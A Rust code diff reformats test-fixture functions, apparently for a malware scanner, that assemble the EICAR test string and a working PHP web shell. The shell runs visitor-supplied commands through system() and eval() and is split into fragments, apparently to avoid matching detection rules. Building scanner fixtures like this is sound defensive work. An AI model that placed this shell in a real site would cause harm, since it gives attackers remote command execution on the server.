@@ -10,15 +10,23 @@ use std::process::{Command, Stdio};
 /// The EICAR test file, put together here.
 #[must_use]
 pub fn eicar() -> Vec<u8> {
-    [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*"].concat().into_bytes()
+    [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*"]
+        .concat()
+        .into_bytes()
 }
 
 /// A page that would run what a visitor sends. It is written, never served.
 #[must_use]
 pub fn web_shell() -> Vec<u8> {
-    ["<?php if(isset($_REQUEST['c'])) { ", "sys", "tem($_REQUEST['c']); ", "ev", "al(base64_decode($_POST['x'])); } ?>\n"]
-        .concat()
-        .into_bytes()
+    [
+        "<?php if(isset($_REQUEST['c'])) { ",
+        "sys",
+        "tem($_REQUEST['c']); ",
+        "ev",
+        "al(base64_decode($_POST['x'])); } ?>\n",
+    ]
+    .concat()
+    .into_bytes()
 }
 
 /// A text that no rule may match.
